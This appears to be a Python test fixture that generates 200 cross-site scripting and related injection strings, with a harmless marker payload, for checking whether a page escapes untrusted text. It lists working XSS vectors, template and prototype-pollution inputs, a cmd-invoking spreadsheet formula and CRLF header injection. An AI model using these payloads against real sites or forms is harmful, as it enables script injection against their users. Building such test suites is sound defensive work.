"""Two hundred strings that would run a script, or make an element, in a page that trusts what it shows.

Whatever runs sets ``window.ran``; every element that would be made carries ``data-injected``.
"""

from __future__ import annotations

RUN = "window.ran=1"
#: A place for the script is {}; the attribute marks the element.
MARKUP = (
    "<script data-injected>{}</script>",
    "<SCRIPT data-injected>{}</SCRIPT>",
    "<script data-injected type=module>{}</script>",
    "</script><script data-injected>{}</script>",
    "</title><script data-injected>{}</script>",
    "</style><script data-injected>{}</script>",
    "</textarea><script data-injected>{}</script>",
    "</option></select><script data-injected>{}</script>",
    "</td></tr></table><script data-injected>{}</script>",
    "--><script data-injected>{}</script>",
    "]]><script data-injected>{}</script>",
    "<scr<script>ipt data-injected>{}</scr</script>ipt>",
    "<img data-injected src=x onerror={}>",
    "<img data-injected src=x onerror='{}'>",
    '<img data-injected src="x" onerror="{}">',
    "<img data-injected/src=x/onerror={}>",
    "<img data-injected srcset=x onerror={}>",
    "<IMG DATA-INJECTED SRC=x ONERROR={}>",
    "<image data-injected src=x onerror={}>",
    "<svg data-injected onload={}>",
    "<svg data-injected><script>{}</script></svg>",
    "<svg data-injected><animate onbegin={} attributeName=x dur=1s>",
    "<svg data-injected><set onbegin={} attributename=x>",
    "<svg data-injected><a href='javascript:{}'><text>x</text></a></svg>",
    "<svg data-injected><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<math data-injected><mtext><img src=x onerror={}></mtext></math>",
    "<body data-injected onload={}>",
    "<body data-injected onpageshow={}>",
    "<iframe data-injected srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe data-injected src='javascript:{}'></iframe>",
    "<object data-injected data='javascript:{}'></object>",
    "<embed data-injected src='javascript:{}'>",
    "<a data-injected href='javascript:{}' autofocus>x</a>",
    "<a data-injected href=' javascript:{}'>x</a>",
    "<a data-injected href='java\tscript:{}'>x</a>",
    "<form data-injected action='javascript:{}'><button>x</button></form>",
    "<button data-injected formaction='javascript:{}'>x</button>",
    "<input data-injected autofocus onfocus={}>",
    "<select data-injected autofocus onfocus={}>",
    "<textarea data-injected autofocus onfocus={}>",
    "<video data-injected><source onerror={}></video>",
    "<video data-injected src=x onerror={}></video>",
    "<audio data-injected src=x onerror={}></audio>",
    "<details data-injected open ontoggle={}>",
    "<marquee data-injected onstart={}>x</marquee>",
    "<div data-injected style='animation:x 1s' onanimationstart={}>x</div>",
    "<p data-injected onmouseover={}>x</p>",
    "<p data-injected tabindex=1 onfocus={} autofocus>x</p>",
    "<base data-injected href='javascript:{}//'>",
    "<link data-injected rel=stylesheet href=x onerror={}>",
    "<meta data-injected http-equiv=refresh content='0;url=javascript:{}'>",
    "<style data-injected>@import 'javascript:{}';</style>",
    "<template data-injected><script>{}</script></template>",
    "<noscript><p data-injected title='</noscript><img src=x onerror={}>'></noscript>",
    "<xmp data-injected><img src=x onerror={}></xmp>",
    "<portal data-injected src='javascript:{}'>",
    "<dialog data-injected open onclose={}>x</dialog>",
    "<keygen data-injected autofocus onfocus={}>",
    "<isindex data-injected type=image src=1 onerror={}>",
    "<table data-injected background='javascript:{}'>",
)
#: Where the markup stands: by itself, behind the end of an attribute, of a text, of a line.
BEFORE = ("", '">', "'>", "x\n")
#: What is no markup, and would run where a text is put into code, an address, an attribute or a template.
OTHER = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"';{RUN};'",
    f'";{RUN};"',
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"*/{RUN};/*",
    f"\\u003cscript data-injected\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script data-injected&gt;{RUN}&lt;/script&gt;",
    f"&#60;script data-injected&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript data-injected%3E{RUN}%3C/script%3E",
    f'x" onmouseover="{RUN}" data-injected="',
    f"x' onfocus='{RUN}' autofocus data-injected='",
    f"x onerror={RUN} data-injected",
    f"__proto__[ran]={RUN}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    f"=cmd|'/c {RUN}'!A1",
    f"+{RUN}",
    f"-{RUN}",
    f"@{RUN}",
    f"\u202e<script data-injected>{RUN}</script>",
    f"\ufeff<script data-injected>{RUN}</script>",
    f"<\u200bscript data-injected>{RUN}</script>",
    f"＜script data-injected＞{RUN}＜/script＞",
    f"../../<script data-injected>{RUN}</script>",
    f"#/stream/<script data-injected>{RUN}</script>/queue",
    f"?key=<script data-injected>{RUN}</script>",
    f"1;{RUN}",
    f"null,{RUN}",
    f"\r\nContent-Type: text/html\r\n\r\n<script data-injected>{RUN}</script>",
    f"\r\ndata: <script data-injected>{RUN}</script>\r\n\r\n",
)


def strings() -> list[str]:
    """Return all of them, each once."""
    found = [*OTHER]
    for k in range(200 - len(OTHER)):
        markup, before = MARKUP[k % len(MARKUP)], BEFORE[(k // len(MARKUP)) % len(BEFORE)]
        found.append(before + markup.format(RUN))
    assert len(set(found)) == len(found) == 200
    return found
